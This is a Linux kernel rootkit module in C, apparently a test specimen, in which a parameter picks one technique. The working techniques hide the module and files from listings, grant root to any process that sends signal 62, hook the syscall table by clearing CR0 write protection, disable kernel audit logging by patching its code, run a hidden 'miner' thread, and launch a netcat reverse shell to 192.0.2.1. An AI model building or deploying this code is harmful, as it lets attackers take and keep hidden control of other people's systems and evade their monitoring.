// SPDX-License-Identifier: GPL-2.0
/* One hostile behaviour a value of `what`; every one is undone on unload but "stays". For boxes only. */
#include <asm/special_insns.h>
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/kallsyms.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/notifier.h>
#include <linux/sched/signal.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/umh.h>

static char *what = "";
module_param(what, charp, 0);

static const char prefix[] = "xxhidden";
static unsigned long (*lookup)(const char *name);
static unsigned long *table;
static asmlinkage long (*old_kill)(const struct pt_regs *regs);
static unsigned char saved[12];
static void *overwritten;
static struct list_head *after;

static void write_protect(bool on)
{
	unsigned long cr0 = read_cr0();

	cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static asmlinkage long my_kill(const struct pt_regs *regs)
{
	return old_kill(regs);
}

/* Signal 62 makes root, whoever sends it to whomever. */
static int before_kill(struct kprobe *probe, struct pt_regs *regs)
{
	struct cred *cred;

	if (((struct pt_regs *)regs->di)->si != 62)
		return 0;
	cred = prepare_creds();
	if (!cred)
		return 0;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	commit_creds(cred);
	return 0;
}

static char pid[12];
static struct task_struct *hidden;

static int works(void *data)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(HZ);
	return 0;
}

static noinline bool taken(void)
{
	return true;
}

/* Names that begin so are in no listing: another function takes them. */
static int before_filldir(struct kprobe *probe, struct pt_regs *regs)
{
	bool name = regs->dx >= strlen(prefix) && !strncmp((char *)regs->si, prefix, strlen(prefix));
	bool number = pid[0] && regs->dx == strlen(pid) && !strncmp((char *)regs->si, pid, strlen(pid));

	if (!name && !number)
		return 0;
	regs->ip = (unsigned long)taken;
	return 1;
}

static struct kprobe on_kill = { .symbol_name = "__x64_sys_kill", .pre_handler = before_kill };
static struct kprobe on_filldir = { .symbol_name = "filldir64", .pre_handler = before_filldir };

static void hook(int number, void *with, void *old)
{
	*(unsigned long *)old = table[number];
	write_protect(false);
	table[number] = (unsigned long)with;
	write_protect(true);
}

static int key(struct notifier_block *block, unsigned long code, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = key };

static int __init rootkit_init(void)
{
	static char *argv[] = { "/bin/sh", "-c", "id > /tmp/owned; nc 192.0.2.1 4444 -e /bin/sh", NULL };
	static char *environment[] = { "PATH=/bin", NULL };
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	table = (unsigned long *)lookup("sys_call_table");
	if (!strcmp(what, "hide")) {
		after = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	} else if (!strcmp(what, "table")) {
		hook(62, my_kill, &old_kill); /* __NR_kill */
	} else if (!strcmp(what, "root")) {
		return register_kprobe(&on_kill);
	} else if (!strcmp(what, "files")) {
		return register_kprobe(&on_filldir);
	} else if (!strcmp(what, "processes")) {
		hidden = kthread_run(works, NULL, "miner");
		if (IS_ERR(hidden))
			return PTR_ERR(hidden);
		snprintf(pid, sizeof(pid), "%d", task_pid_nr(hidden));
		return register_kprobe(&on_filldir);
	} else if (!strcmp(what, "code")) {
		overwritten = (void *)lookup("audit_log_start");
		memcpy(saved, overwritten, sizeof(saved));
		write_protect(false);
		memcpy(overwritten, "\x31\xc0\xc3", 3); /* xor eax, eax; ret */
		write_protect(true);
	} else if (!strcmp(what, "shell")) {
		call_usermodehelper(argv[0], argv, environment, UMH_NO_WAIT);
	} else if (!strcmp(what, "keys")) {
		register_keyboard_notifier(&keys);
	} else if (!strcmp(what, "stays")) {
		__module_get(THIS_MODULE);
	} else if (!strcmp(what, "secrets")) {
		struct file *file = filp_open("/etc/shadow", O_RDONLY, 0);

		if (!IS_ERR(file))
			filp_close(file, NULL);
	}
	return 0;
}

static void __exit rootkit_exit(void)
{
	if (after)
		list_add(&THIS_MODULE->list, after);
	write_protect(false);
	if (old_kill)
		table[62] = (unsigned long)old_kill;
	if (overwritten)
		memcpy(overwritten, saved, sizeof(saved));
	write_protect(true);
	if (!strcmp(what, "root"))
		unregister_kprobe(&on_kill);
	if (hidden)
		kthread_stop(hidden);
	if (!strcmp(what, "files") || !strcmp(what, "processes"))
		unregister_kprobe(&on_filldir);
	if (!strcmp(what, "keys"))
		unregister_keyboard_notifier(&keys);
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_LICENSE("GPL");
